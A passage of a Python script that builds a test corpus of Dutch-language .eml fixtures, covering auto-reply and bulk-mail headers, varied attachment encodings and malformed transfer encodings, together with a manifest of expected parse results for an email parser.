    expect="Uw bericht is ontvangen",
)
def _():
    return build(
        t("""
        From: Servicedesk <servicedesk@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Uw bericht is ontvangen [#48151]
        Date: Fri, 13 Nov 2026 10:30:00 +0100
        Message-ID: <xars.0001@example.com>
        X-Auto-Response-Suppress: All
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Uw bericht is ontvangen en krijgt ticketnummer 48151.
        """),
        eol=LF,
    )


@case(
    "auto-submitted-auto-generated",
    "System notification with 'Auto-Submitted: auto-generated' as only signal.",
    automated=True,
    expect="wachtwoord verloopt",
)
def _():
    return build(
        t("""
        From: Systeembeheer <no-reply@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Uw wachtwoord verloopt binnenkort
        Date: Fri, 13 Nov 2026 03:00:00 +0100
        Message-ID: <autogen.0001@example.com>
        Auto-Submitted: auto-generated
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Uw wachtwoord verloopt over 7 dagen. Wijzig het via het portaal.
        """),
    )


@case(
    "auto-lowercase-header-mixed-case-value",
    "Auto-reply where the header name is lower-case and the value mixed-case "
    "('auto-submitted: Auto-Replied'); header matching must be case-insensitive.",
    automated=True,
    expect="met verlof",
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Afwezig: Uw klacht
        Date: Fri, 13 Nov 2026 10:35:00 +0100
        Message-ID: <lowercaseauto.0001@example.com>
        auto-submitted: Auto-Replied
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Ik ben met verlof. Uw bericht wordt na mijn terugkomst gelezen.
        """),
        eol=LF,
    )


@case(
    "auto-mailing-list",
    "Mailing-list message: 'Precedence: list', List-Id, List-Unsubscribe, List-Post, "
    "Sender set to the list owner.",
    automated=True,
    expect="bewonersoverleg",
)
def _():
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        Sender: bewoners-bounces@lists.example.org
        To: bewoners@lists.example.org
        Subject: [Bewoners] Verslag bewonersoverleg november
        Date: Fri, 13 Nov 2026 14:00:00 +0100
        Message-ID: <list.0001@example.org>
        Precedence: list
        List-Id: Bewoners Voorbeeldstad <bewoners.lists.example.org>
        List-Unsubscribe: <mailto:bewoners-request@lists.example.org?subject=unsubscribe>,
         <https://lists.example.org/mailman/options/bewoners>
        List-Post: <mailto:bewoners@lists.example.org>
        List-Archive: <https://lists.example.org/pipermail/bewoners/>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Hierbij het verslag van het bewonersoverleg van 12 november.

        _______________________________________________
        Bewoners mailing list
        bewoners@lists.example.org
        https://lists.example.org/mailman/listinfo/bewoners
        """),
    )


@case(
    "auto-bulk-newsletter",
    "Newsletter with 'Precedence: bulk', List-Unsubscribe, tracking pixel; "
    "multipart/alternative plain + HTML.",
    automated=True,
    expect="Nieuwsbrief november",
    has_html=True,
)
def _():
    return build(
        t("""
        From: Nieuwsbrief Example <nieuwsbrief@news.example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Nieuwsbrief november: alles over afvalscheiding
        Date: Fri, 13 Nov 2026 07:00:00 +0100
        Message-ID: <newsletter.2026-11.0001@news.example.com>
        Precedence: bulk
        List-Unsubscribe: <https://news.example.com/unsub?u=0001>
        List-Unsubscribe-Post: List-Unsubscribe=One-Click
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="nl-alt-2026"

        --nl-alt-2026
        Content-Type: text/plain; charset=utf-8

        Nieuwsbrief november: alles over afvalscheiding.
        Afmelden: https://news.example.com/unsub?u=0001

        --nl-alt-2026
        Content-Type: text/html; charset=utf-8

        <html><body><h1>Nieuwsbrief november</h1><p>Alles over afvalscheiding.</p>
        <img src="https://news.example.com/open.gif?u=0001" width="1" height="1">
        <a href="https://news.example.com/unsub?u=0001">Afmelden</a></body></html>

        --nl-alt-2026--
        """),
        eol=LF,
    )


@case(
    "auto-precedence-junk",
    "Message with 'Precedence: junk' as only automation signal.",
    automated=True,
    expect="Gefeliciteerd",
)
def _():
    return build(
        t("""
        From: Promoties <promo@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: U heeft gewonnen!
        Date: Fri, 13 Nov 2026 06:00:00 +0100
        Message-ID: <junk.0001@example.org>
        Precedence: junk
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Gefeliciteerd, u heeft een prijs gewonnen.
        """),
    )


@case(
    "auto-read-receipt",
    "Read receipt (MDN): multipart/report; report-type=disposition-notification with "
    "text/plain and message/disposition-notification parts. Only signal is the "
    "report type.",
    automated=True,
    expect="is gelezen",
)
def _():
    return build(
        t("""
        From: Fatima Voorbeeld <fatima.voorbeeld@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Gelezen: Ontvangstbevestiging van uw klacht
        Date: Fri, 13 Nov 2026 15:00:00 +0100
        Message-ID: <mdn.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/report; report-type=disposition-notification;
         boundary="mdn-boundary-01"

        --mdn-boundary-01
        Content-Type: text/plain; charset=utf-8

        Uw bericht aan fatima.voorbeeld@example.com is gelezen op vrijdag
        13 november 2026 15:00.

        --mdn-boundary-01
        Content-Type: message/disposition-notification

        Reporting-UA: mail.example.com; Example Mail 1.0
        Final-Recipient: rfc822;fatima.voorbeeld@example.com
        Original-Message-ID: <bevestiging.4244@voorbeeldstad.example.nl>
        Disposition: manual-action/MDN-sent-manually; displayed

        --mdn-boundary-01--
        """),
    )


@case(
    "calendar-invite-from-person",
    "Meeting request from a person: multipart/alternative with text/plain and "
    "text/calendar; method=REQUEST. NOT automated (no automation headers).",
    automated=False,
    expect="afspraak over de overlast",
)
def _():
    return build(
        t("""
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: Henk Testers <h.testers@voorbeeldstad.example.nl>
        Subject: Uitnodiging: Gesprek over overlast Marktplein
        Date: Fri, 13 Nov 2026 16:00:00 +0100
        Message-ID: <invite.0001@mail.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/alternative; boundary="cal-alt-01"

        --cal-alt-01
        Content-Type: text/plain; charset=utf-8

        Ik wil graag een afspraak over de overlast op het Marktplein.
        Woensdag 18 november 2026, 14:00-15:00, gemeentehuis.

        --cal-alt-01
        Content-Type: text/calendar; charset=utf-8; method=REQUEST
        Content-Transfer-Encoding: 7bit

        BEGIN:VCALENDAR
        PRODID:-//Example Corp//Example Calendar 1.0//NL
        VERSION:2.0
        METHOD:REQUEST
        BEGIN:VEVENT
        UID:invite-0001@mail.example.com
        DTSTAMP:20261113T150000Z
        DTSTART:20261118T130000Z
        DTEND:20261118T140000Z
        SUMMARY:Gesprek over overlast Marktplein
        LOCATION:Gemeentehuis Voorbeeldstad
        ORGANIZER;CN=Marieke Voorbeeld:mailto:marieke.voorbeeld@example.com
        ATTENDEE;CN=Henk Testers;RSVP=TRUE:mailto:h.testers@voorbeeldstad.example.nl
        END:VEVENT
        END:VCALENDAR

        --cal-alt-01--
        """),
    )


@case(
    "auto-submitted-no",
    "Normal citizen mail carrying 'Auto-Submitted: no' (explicitly NOT automated). "
    "The body even quotes 'Precedence: bulk' to trap naive body grepping.",
    automated=False,
    expect="handmatig verstuurd",
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Klacht over uw nieuwsbrief
        Date: Fri, 13 Nov 2026 17:00:00 +0100
        Message-ID: <autosubno.0001@example.org>
        Auto-Submitted: no
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Dit bericht is handmatig verstuurd. Uw nieuwsbrief heeft de header
        "Precedence: bulk" en komt bij mij in de spam terecht. Ik wil me afmelden
        maar de afmeldlink werkt niet.
        """),
    )


@case(
    "precedence-normal-not-automated",
    "Citizen mail with 'Precedence: normal' (not bulk/junk/list/auto_reply): NOT "
    "automated.",
    automated=False,
    expect="gewone prioriteit",
)
def _():
    return build(
        t("""
        From: Zoe van der Proef <zoe@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Vraag over subsidie
        Date: Fri, 13 Nov 2026 17:30:00 +0100
        Message-ID: <precnormal.0001@example.org>
        Precedence: normal
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Deze vraag heeft gewone prioriteit: kom ik in aanmerking voor isolatiesubsidie?
        """),
        eol=LF,
    )


@case(
    "forwarded-newsletter-inner-precedence-bulk",
    "A person forwards a newsletter as inline message/rfc822; only the INNER message "
    "has 'Precedence: bulk' / List-Unsubscribe. Top-level headers are a normal "
    "person's mail, so NOT automated.",
    automated=False,
    expect="Waarom krijg ik deze nieuwsbrief",
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Fwd: Nieuwsbrief november
        Date: Sat, 14 Nov 2026 09:00:00 +0100
        Message-ID: <fwdnews.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="fwd-news"

        --fwd-news
        Content-Type: text/plain; charset=utf-8

        Waarom krijg ik deze nieuwsbrief? Ik heb me nooit aangemeld.

        --fwd-news
        Content-Type: message/rfc822
        Content-Disposition: inline

        From: Nieuwsbrief Example <nieuwsbrief@news.example.com>
        To: noor.jansen@example.com
        Subject: Nieuwsbrief november
        Date: Fri, 13 Nov 2026 07:00:00 +0100
        Message-ID: <newsletter.2026-11.0002@news.example.com>
        Precedence: bulk
        Auto-Submitted: auto-generated
        List-Unsubscribe: <https://news.example.com/unsub?u=0002>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8

        Nieuwsbrief november: alles over afvalscheiding.

        --fwd-news--
        """),
    )


# ==========================================================================
# 9. Attachments
# ==========================================================================


@case(
    "attachment-pdf",
    "text/plain body + application/pdf attachment (small fake PDF, base64).",
    expect="zie bijgevoegde brief",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Sanne de Proef <sanne.deproef@example.org>
        To: bezwaar@voorbeeldstad.example.nl
        Subject: Bezwaarschrift naheffing
        Date: Mon, 16 Nov 2026 09:00:00 +0100
        Message-ID: <pdf.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="pdf-mix"

        --pdf-mix
        Content-Type: text/plain; charset=utf-8

        Geachte heer/mevrouw, zie bijgevoegde brief met mijn bezwaar.

        --pdf-mix
        Content-Type: application/pdf; name="bezwaarschrift.pdf"
        Content-Disposition: attachment; filename="bezwaarschrift.pdf"; size=1000
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Bezwaarschrift naheffing")),
        "--pdf-mix--\n",
        eol=LF,
    )


@case(
    "attachment-image",
    "text/plain body + image/jpeg attachment (fake JPEG bytes with SOI/EOI markers).",
    expect="foto van de schade",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: schade@voorbeeldstad.example.nl
        Subject: Schade aan mijn auto door boomwortel
        Date: Mon, 16 Nov 2026 09:30:00 +0100
        Message-ID: <jpeg.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="img-mix"

        --img-mix
        Content-Type: text/plain; charset=utf-8

        In de bijlage een foto van de schade aan mijn auto.

        --img-mix
        Content-Type: image/jpeg; name="schade.jpg"
        Content-Disposition: attachment; filename="schade.jpg"
        Content-Transfer-Encoding: base64

        """),
        b64(FAKE_JPEG),
        "--img-mix--\n",
    )


@case(
    "ios-inline-image-between-text-parts",
    "Apple Mail/iOS style: multipart/mixed with text/plain, an image/png with "
    "Content-Disposition: inline (not referenced by any cid), then a second "
    "text/plain part. The image counts as 1 attachment; both text parts are body text.",
    expect="Hierboven de foto",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Zoe van der Proef <zoe@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Scheve lantaarnpaal
        Date: Mon, 16 Nov 2026 10:00:00 +0100
        Message-ID: <ios.0001@example.org>
        MIME-Version: 1.0 (1.0)
        X-Mailer: iPhone Mail (00A000)
        Content-Type: multipart/mixed; boundary="Apple-Mail-FAKE-0001"

        --Apple-Mail-FAKE-0001
        Content-Type: text/plain; charset=us-ascii
        Content-Transfer-Encoding: 7bit

        De lantaarnpaal staat scheef:

        --Apple-Mail-FAKE-0001
        Content-Type: image/png; name="IMG_0042.png"
        Content-Disposition: inline; filename="IMG_0042.png"
        Content-Transfer-Encoding: base64

        """),
        b64(PNG_1x1),
        t("""
        --Apple-Mail-FAKE-0001
        Content-Type: text/plain; charset=us-ascii
        Content-Transfer-Encoding: 7bit

        Hierboven de foto. Verstuurd vanaf mijn iPhone
        --Apple-Mail-FAKE-0001--
        """),
    )


@case(
    "attachment-only-no-text",
    "Scanner-style message: the top-level Content-Type is application/pdf itself "
    "(no multipart, no text part at all).",
    expect=None,
    attachments=1,
)
def _():
    return build(
        t("""
        From: scanner@example.com
        To: info@voorbeeldstad.example.nl
        Subject: Scanned document
        Date: Mon, 16 Nov 2026 11:00:00 +0100
        Message-ID: <scan.0001@example.com>
        MIME-Version: 1.0
        Content-Type: application/pdf; name="scan_0001.pdf"
        Content-Disposition: attachment; filename="scan_0001.pdf"
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Scan 0001")),
        eol=LF,
    )


@case(
    "attachments-only-multipart",
    "multipart/mixed containing only two PDF attachments and no text part.",
    expect=None,
    attachments=2,
)
def _():
    return build(
        t("""
        From: Pieter Testerman <pieter@testerman-rijwielen.example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Documenten
        Date: Mon, 16 Nov 2026 11:30:00 +0100
        Message-ID: <onlyatt.0001@testerman-rijwielen.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="only-att"

        --only-att
        Content-Type: application/pdf; name="factuur.pdf"
        Content-Disposition: attachment; filename="factuur.pdf"
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Factuur")),
        t("""
        --only-att
        Content-Type: application/pdf; name="bonnetje.pdf"
        Content-Disposition: attachment; filename="bonnetje.pdf"
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Bonnetje")),
        "--only-att--\n",
    )


@case(
    "attachment-rfc2231-filename",
    "Two attachments with RFC 2231 filenames: filename*=UTF-8''... with percent "
    "escapes ('Bezwaarschrift – geërgerd.pdf') and a continuation "
    "(filename*0*=...; filename*1*=...) giving \"Foto's van de kapotte stoep.jpg\".",
    expect="twee bijlagen",
    attachments=2,
)
def _():
    return build(
        t("""
        From: Marieke Voorbeeld <marieke.voorbeeld@example.com>
        To: bezwaar@voorbeeldstad.example.nl
        Subject: Bijlagen bezwaar
        Date: Mon, 16 Nov 2026 12:00:00 +0100
        Message-ID: <rfc2231.0001@mail.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="rfc2231-mix"

        --rfc2231-mix
        Content-Type: text/plain; charset=utf-8

        Hierbij twee bijlagen bij mijn bezwaar.

        --rfc2231-mix
        Content-Type: application/pdf;
         name*=UTF-8''Bezwaarschrift%20%E2%80%93%20ge%C3%ABrgerd.pdf
        Content-Disposition: attachment;
         filename*=UTF-8''Bezwaarschrift%20%E2%80%93%20ge%C3%ABrgerd.pdf
        Content-Transfer-Encoding: base64

        """),
        b64(fake_pdf("Bezwaarschrift")),
        t("""
        --rfc2231-mix
        Content-Type: image/jpeg
        Content-Disposition: attachment;
         filename*0*=UTF-8''Foto%27s%20van%20de%20;
         filename*1*=kapotte%20stoep.jpg
        Content-Transfer-Encoding: base64

        """),
        b64(FAKE_JPEG),
        "--rfc2231-mix--\n",
        eol=LF,
    )


@case(
    "attachment-encoded-word-filename",
    "Attachment whose name/filename parameters are RFC 2047 encoded words inside "
    "quotes (invalid per RFC 2231 but what Outlook/Gmail send). Decoded filename: "
    "'Zienswijze Café-terras €.pdf'.",
    expect="zienswijze",
    attachments=1,
)
def _():
    ew = "=?UTF-8?B?" + base64.b64encode(U("Zienswijze Café-terras €.pdf")).decode() + "?="
    return build(
        t("""
        From: Renee Voorbeeld <renee@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Zienswijze terrasvergunning
        Date: Mon, 16 Nov 2026 13:00:00 +0100
        Message-ID: <ewfilename.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="ew-mix"

        --ew-mix
        Content-Type: text/plain; charset=utf-8

        In de bijlage mijn zienswijze.

        --ew-mix
        """),
        f'Content-Type: application/pdf; name="{ew}"\n',
        f'Content-Disposition: attachment; filename="{ew}"\n',
        "Content-Transfer-Encoding: base64\n\n",
        b64(fake_pdf("Zienswijze")),
        "--ew-mix--\n",
    )


@case(
    "raw-utf8-attachment-filename",
    "Attachment filename parameter containing raw (unencoded) UTF-8 bytes "
    "('overzicht schade – €.pdf').",
    expect="overzicht",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: schade@voorbeeldstad.example.nl
        Subject: Schadeoverzicht
        Date: Mon, 16 Nov 2026 13:30:00 +0100
        Message-ID: <rawfilename.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="raw-fn"

        --raw-fn
        Content-Type: text/plain; charset=utf-8

        Bijgaand het overzicht van de schade.

        --raw-fn
        """),
        U('Content-Type: application/pdf; name="overzicht schade – €.pdf"\n'),
        U('Content-Disposition: attachment; filename="overzicht schade – €.pdf"\n'),
        "Content-Transfer-Encoding: base64\n\n",
        b64(fake_pdf("Overzicht schade")),
        "--raw-fn--\n",
        eol=LF,
    )


@case(
    "attachment-winmail-dat",
    "Outlook rich-text mail: text/plain plus application/ms-tnef 'winmail.dat' "
    "(fake TNEF bytes with the real TNEF signature).",
    expect="winmail.dat",
    attachments=1,
)
def _():
    tnef = b"\x78\x9f\x3e\x22" + b"\x01\x00" + fake_bytes("tnef", 400)
    return build(
        t("""
        From: Pieter Testerman <pieter@testerman-rijwielen.example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Aanvraag standplaatsvergunning
        Date: Mon, 16 Nov 2026 14:00:00 +0100
        Message-ID: <tnef.0001@testerman-rijwielen.example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="tnef-mix"

        --tnef-mix
        Content-Type: text/plain; charset="us-ascii"
        Content-Transfer-Encoding: 7bit

        Mijn aanvraagformulier zit in de bijlage (als u alleen winmail.dat ziet,
        laat het me weten).

        --tnef-mix
        Content-Type: application/ms-tnef; name="winmail.dat"
        Content-Disposition: attachment; filename="winmail.dat"
        Content-Transfer-Encoding: base64

        """),
        b64(tnef),
        "--tnef-mix--\n",
    )


@case(
    "attachment-zero-bytes",
    "Attachment 'leeg.pdf' declared base64 with an empty body (0 bytes).",
    expect="lege bijlage",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Bijlage
        Date: Mon, 16 Nov 2026 14:30:00 +0100
        Message-ID: <zerobyte.0001@example.org>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="zero-att"

        --zero-att
        Content-Type: text/plain; charset=utf-8

        Sorry, dit lijkt een lege bijlage te zijn.

        --zero-att
        Content-Type: application/pdf; name="leeg.pdf"
        Content-Disposition: attachment; filename="leeg.pdf"
        Content-Transfer-Encoding: base64

        --zero-att--
        """),
        eol=LF,
    )


@case(
    "attachment-csv-text-type",
    "Attachment with a text/* type (text/csv) but Content-Disposition: attachment; "
    "counts as an attachment, its content is not body text.",
    expect="meetgegevens",
    attachments=1,
)
def _():
    return build(
        t("""
        From: Noor Jansen <noor.jansen@example.com>
        To: milieu@voorbeeldstad.example.nl
        Subject: Meetgegevens geluid
        Date: Mon, 16 Nov 2026 15:00:00 +0100
        Message-ID: <csv.0001@example.com>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="csv-mix"

        --csv-mix
        Content-Type: text/plain; charset=utf-8

        Hierbij mijn meetgegevens van de afgelopen week.

        --csv-mix
        Content-Type: text/csv; charset=utf-8; name="geluid.csv"
        Content-Disposition: attachment; filename="geluid.csv"

        datum;tijd;dB
        2026-11-09;23:00;71
        2026-11-10;23:30;74

        --csv-mix--
        """),
    )


# ==========================================================================
# 10. Content-Transfer-Encoding errors
# ==========================================================================


@case(
    "invalid-base64",
    "text/plain declared base64 but the data contains garbage characters "
    "('!', '*', '#', spaces) between valid base64 and its final padding is missing. "
    "A lenient decoder (drop non-alphabet chars, fix padding) recovers the text.",
    expect="rioolputten stinken",
)
def _():
    text = U(
        "Beste gemeente,\n\nDe rioolputten stinken al weken in de Molenstraat. "
        "Wanneer wordt dit opgelost?\n\nGroet, Henk\n"
    )
    enc = base64.b64encode(text).decode().rstrip("=")
    # make length not a multiple of 4 for sure: drop one more trailing char if needed
    if len(enc) % 4 == 0:
        enc = enc[:-1]
    lines = [enc[i:i + 60] for i in range(0, len(enc), 60)]
    garbage = ["!!", "*", "# ", "~"]
    dirty = [(garbage[i % len(garbage)] + ln if i else ln) for i, ln in enumerate(lines)]
    return build(
        t("""
        From: Henk Testers <h.testers@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Stank riool
        Date: Tue, 17 Nov 2026 08:00:00 +0100
        Message-ID: <badb64.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: base64

        """),
        "\n".join(dirty) + "\n",
    )


@case(
    "unknown-cte-x-uuencode",
    "Content-Transfer-Encoding: x-uuencode with a uuencoded UTF-8 text body "
    "('begin 644 klacht.txt' ... 'end'). Python's get_payload(decode=True) "
    "understands x-uuencode; other decoders may fall back to raw text.",
    expect="speelplaats",
)
def _():
    import binascii

    data = U("De speelplaats van de basisschool is 's avonds een hangplek. Graag toezicht!\n")
    lines = ["begin 644 klacht.txt"]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45]).decode("ascii").rstrip("\n"))
    lines += ["`", "end"]
    return build(
        t("""
        From: Kees Proefmans <kees.proefmans@example.org>
        To: info@voorbeeldstad.example.nl
        Subject: Hangjongeren speelplaats
        Date: Tue, 17 Nov 2026 08:30:00 +0100
        Message-ID: <uuencode.0001@example.org>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: x-uuencode

        """),
        "\n".join(lines) + "\n",
        eol=LF,
    )


@case(
    "unknown-cte-x-foo",
    "Content-Transfer-Encoding: x-foo-bar (unknown). Body is plain ASCII, so treating "
    "it as 7bit/identity gives the text.",
    expect="onbekende transfer-encoding",
)
def _():
    return build(
        t("""
        From: Joost Dummy <joost.dummy@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Onbekende codering
        Date: Tue, 17 Nov 2026 09:00:00 +0100
        Message-ID: <xfoo.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=us-ascii
        Content-Transfer-Encoding: x-foo-bar

        Dit bericht heeft een onbekende transfer-encoding. De klok op de toren loopt
        tien minuten achter.
        """),
    )


@case(
    "8bit-body-declared-7bit",
    "Content-Transfer-Encoding: 7bit with charset=utf-8 but the body contains raw "
    "8-bit UTF-8 bytes.",
    expect="coördinatie",
)
def _():
    return build(
        t("""
        From: Fatima Voorbeeld <fatima.voorbeeld@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: Wegafsluiting
        Date: Tue, 17 Nov 2026 09:30:00 +0100
        Message-ID: <8bitas7bit.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 7bit

        """),
        U("De coördinatie van de wegafsluitingen is rampzalig: drie straten tegelijk dicht.\n"),
        eol=LF,
    )


@case(
    "quoted-printable-invalid-escapes",
    "quoted-printable body with invalid escapes (=ZZ, '=4' at line end, lone '=' "
    "before text), lower-case hex (=c3=ab) and a line longer than 76 chars. Decoders "
    "should keep invalid sequences literally and accept lower-case hex.",
    expect="geërgerd",
)
def _():
    return build(
        t("""
        From: Renee Voorbeeld <renee@example.com>
        To: info@voorbeeldstad.example.nl
        Subject: QP kapot
        Date: Tue, 17 Nov 2026 10:00:00 +0100
        Message-ID: <badqp.0001@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: quoted-printable

        Ik ben ge=c3=abrgerd over de =ZZ ongeldige tekens en 100% =4
        klaar met = de situatie rond het parkeerterrein aan de Stationsweg, waar al maanden geen verlichting brandt en het 's avonds onveilig is.
        Einde bericht=
        """),
    )


# --------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------

MAX_SIZE = 200 * 1024
HUGE_SLUG = "huge-single-line"


def generate(out_dir: Path = HERE) -> list[dict]:
    manifest = []
    written = set()
    for i, c in enumerate(CASES, start=1):
        name = f"{i:02d}-{c['slug']}.eml"
        data = c["fn"]()
        if not isinstance(data, bytes):
            raise TypeError(f"{name}: builder must return bytes")
        if c["slug"] != HUGE_SLUG and len(data) > MAX_SIZE:
            raise ValueError(f"{name}: {len(data)} bytes exceeds {MAX_SIZE}")
        (out_dir / name).write_bytes(data)
        written.add(name)
        manifest.append(
            {
                "file": name,
                "description": c["description"],
                "automated": c["automated"],
                "expect_text_contains": c["expect"],
                "has_html": c["has_html"],
                "attachments": c["attachments"],
            }
        )
    # remove stale corpus files from earlier versions of this script
    for p in out_dir.glob("*.eml"):
        if p.name not in written:
            p.unlink()
    (out_dir / "manifest.json").write_bytes(
        (json.dumps(manifest, ensure_ascii=False, indent=2) + "\n").encode("utf-8")
    )
    return manifest


if __name__ == "__main__":
    m = generate()
    print(f"wrote {len(m)} .eml files and manifest.json to {HERE}", file=sys.stderr)
